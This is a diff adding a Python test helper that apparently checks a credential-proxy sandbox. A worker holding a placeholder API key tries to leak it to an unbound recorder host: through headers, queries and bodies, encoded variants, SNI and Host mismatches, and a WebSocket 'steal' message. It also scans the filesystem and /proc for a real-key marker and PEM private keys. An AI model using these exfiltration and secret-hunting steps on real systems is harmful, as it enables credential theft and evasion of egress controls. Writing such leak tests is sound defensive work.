@@ -1,0 +1,186 @@
+"""What a worker holding a placeholder tries, in one run: ``python3 -c PROBE LLM OTHER``.
+
+LLM is the fake API's base URL (a bound host), OTHER the recorder's host (not bound).
+Every attempt's outcome goes into one JSON line on stdout; the test reads it. The worker
+never learns the real key: it searches its own files and processes for the marker every
+real key of the tests contains (``REALKEY``), which is no secret.
+"""
+
+from __future__ import annotations
+
+PROBE = r"""
+import base64, json, os, re, socket, ssl, subprocess, sys, urllib.error, urllib.parse, urllib.request
+
+LLM, OTHER = sys.argv[1], sys.argv[2]
+KEY = os.environ["OPENAI_API_KEY"]
+results = {"placeholder": KEY}
+CHAT = {"model": "fake", "messages": [{"role": "user", "content": "summarise this"}]}
+
+
+def urllib_call(url, data=None, headers=None, method=None, context=None):
+    request = urllib.request.Request(url, data=data, headers=headers or {}, method=method)
+    try:
+        with urllib.request.urlopen(request, timeout=20, context=context) as answer:
+            return [answer.status, answer.read().decode(errors="replace")[:2000]]
+    except urllib.error.HTTPError as exc:
+        return [exc.code, exc.read().decode(errors="replace")[:300]]
+    except Exception as exc:
+        return ["failed", type(exc).__name__ + ": " + str(exc)[:200]]
+
+
+bearer = {"Authorization": "Bearer " + KEY, "Content-Type": "application/json"}
+chat = json.dumps(CHAT).encode()
+
+# -- clients, unchanged, get their answer ------------------------------------------------
+done = subprocess.run(
+    ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Authorization: Bearer " + KEY,
+     LLM + "/v1/models"], capture_output=True, text=True, timeout=30)
+results["curl"] = [done.stdout.strip(), done.stderr.strip()[:200]]
+results["urllib"] = urllib_call(LLM + "/v1/chat/completions", chat, bearer)
+try:
+    import requests
+    answer = requests.post(LLM + "/v1/chat/completions", json=CHAT, headers=bearer, timeout=20)
+    results["requests"] = [answer.status_code, answer.text[:300]]
+except Exception as exc:
+    results["requests"] = ["failed", repr(exc)[:300]]
+try:
+    import httpx
+    answer = httpx.post(LLM + "/v1/chat/completions", json=CHAT, headers=bearer, timeout=20)
+    results["httpx"] = [answer.status_code, answer.text[:300]]
+except Exception as exc:
+    results["httpx"] = ["failed", repr(exc)[:300]]
+
+# -- the placeholder where it does not belong --------------------------------------------
+other_http = "http://" + OTHER + ":8080"
+other_https = "https://" + OTHER + ":8443"
+results["other_http_header"] = urllib_call(other_http + "/h", headers={"Authorization": "Bearer " + KEY})
+results["other_http_query"] = urllib_call(other_http + "/q?key=" + KEY)
+results["other_http_body"] = urllib_call(other_http + "/b", data=KEY.encode(), method="POST")
+# end to end (the recorder's certificate is the test CA's, which the worker need not trust)
+results["other_https_header"] = urllib_call(other_https + "/h", headers={"Authorization": "Bearer " + KEY},
+                                            context=ssl._create_unverified_context())
+results["llm_body"] = urllib_call(LLM + "/v1/chat/completions",
+                                  json.dumps({"messages": [{"content": KEY}]}).encode(), bearer)
+results["llm_query"] = urllib_call(LLM + "/v1/models?key=" + KEY, headers=bearer)
+results["llm_other_header"] = urllib_call(LLM + "/v1/models", headers={**bearer, "X-Api-Key": KEY})
+results["llm_body_base64"] = urllib_call(LLM + "/v1/models", base64.b64encode(b"k=" + KEY.encode()), bearer)
+results["llm_body_percent"] = urllib_call(
+    LLM + "/v1/models", ("k=" + "".join("%%%02X" % ord(c) for c in KEY)).encode(), bearer)
+results["llm_body_json_escaped"] = urllib_call(
+    LLM + "/v1/models", ('{"k": "' + "".join("\\u%04x" % ord(c) for c in KEY) + '"}').encode(), bearer)
+results["llm_plain_http"] = urllib_call(LLM.replace("https://", "http://").replace(":8443", ":8080")
+                                        + "/v1/models", headers=bearer)
+results["host_mismatch"] = urllib_call(LLM + "/v1/models", headers={**bearer, "Host": OTHER + ":8443"})
+
+
+def tunnel(target, sni):
+    # CONNECT through the proxy, then TLS naming ``sni``: what a client ignoring the
+    # proxy variables' semantics could try
+    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+    raw = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
+    raw.sendall(("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n").encode())
+    head = raw.recv(4096).decode(errors="replace")
+    status = head.split(" ", 2)[1] if " " in head else head
+    if status != "200":
+        return ["connect", status]
+    try:
+        wrapped = ssl.create_default_context().wrap_socket(raw, server_hostname=sni)
+    except ssl.SSLError as exc:
+        return ["tls-refused", exc.reason or str(exc)[:100]]
+    host = target.split(":")[0]
+    wrapped.sendall(("GET /v1/models HTTP/1.1\r\nHost: " + host + ":8443\r\nAuthorization: Bearer "
+                     + KEY + "\r\nConnection: close\r\n\r\n").encode())
+    return ["answered", wrapped.recv(200).decode(errors="replace").split("\r\n")[0]]
+
+
+def websocket():
+    # a WebSocket to the bound host: the key is written into the handshake, the answer
+    # that reflects it comes back scrubbed, and a message holding the placeholder closes it
+    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+    target = urllib.parse.urlsplit(LLM).netloc
+    raw = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
+    raw.sendall(("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n").encode())
+    raw.recv(4096)
+    stream = ssl.create_default_context().wrap_socket(raw, server_hostname=target.split(":")[0])
+    key = base64.b64encode(os.urandom(16)).decode()
+    stream.sendall(("GET /ws HTTP/1.1\r\nHost: " + target + "\r\nUpgrade: websocket\r\n"
+                    "Connection: Upgrade\r\nSec-WebSocket-Key: " + key + "\r\n"
+                    "Sec-WebSocket-Version: 13\r\nAuthorization: Bearer " + KEY + "\r\n\r\n").encode())
+    reader = stream.makefile("rb")
+    status = reader.readline().decode().split(" ")[1]
+    while reader.readline() not in (b"\r\n", b""):
+        pass
+
+    def read():
+        head = reader.read(2)
+        if len(head) < 2 or head[0] & 0x0F == 8:
+            return None
+        length = head[1] & 0x7F
+        if length == 126:
+            length = int.from_bytes(reader.read(2), "big")
+        return reader.read(length).decode(errors="replace")
+
+    def send(text):
+        data, mask = text.encode(), os.urandom(4)
+        stream.sendall(bytes([0x81, 0x80 | len(data)]) + mask
+                       + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
+
+    first = read()
+    send("hello")
+    echoed = read()
+    send("steal " + KEY)
+    try:
+        after = read()
+    except OSError as exc:
+        after = "closed: " + type(exc).__name__
+    return [status, first, echoed, after]
+
+
+try:
+    results["websocket"] = websocket()
+except Exception as exc:
+    results["websocket"] = ["failed", repr(exc)[:300]]
+llm_host = urllib.parse.urlsplit(LLM).netloc
+results["sni_mismatch"] = tunnel(llm_host, OTHER)
+results["ip_literal_connect"] = tunnel("192.0.2.10:8443", "192.0.2.10")
+
+# -- what comes back -------------------------------------------------------------------
+results["echo"] = urllib_call(LLM + "/echo", headers=bearer)
+results["sse"] = urllib_call(LLM + "/sse", headers=bearer)
+results["redirect"] = urllib_call(LLM + "/redirect", headers=bearer)
+
+# -- what the worker can see -----------------------------------------------------------
+results["state_visible"] = os.path.exists("/run/credproxy")
+MARK = ("REAL" + "KEY").encode()  # spelled apart: this script's own text holds no marker
+PEM_KEY = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----\r?\n[A-Za-z0-9+/]{16}")
+found = []
+for root, dirs, files in os.walk("/", onerror=lambda e: None):
+    if root.startswith(("/proc", "/sys", "/dev")):
+        dirs[:] = []
+        continue
+    for name in files:
+        path = os.path.join(root, name)
+        try:
+            if os.path.islink(path) or os.path.getsize(path) > (8 << 20):
+                continue
+            data = open(path, "rb").read()
+        except OSError:
+            continue
+        # (the image's own libraries carry test keys of their own: /usr is the image's)
+        if MARK in data or (PEM_KEY.search(data) and not path.startswith("/usr/")):
+            found.append(path)
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        for part in ("environ", "cmdline"):
+            try:
+                if MARK in open("/proc/%s/%s" % (pid, part), "rb").read():
+                    found.append(pid + "/" + part)
+            except OSError:
+                pass
+results["found"] = found
+results["env_ca"] = {k: os.environ.get(k) for k in ("SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "HTTPS_PROXY")}
+os.makedirs("/staged", exist_ok=True)
+with open("/staged/results.json", "w") as handle:
+    json.dump(results, handle)
+print("RESULTS " + json.dumps(results))
+"""
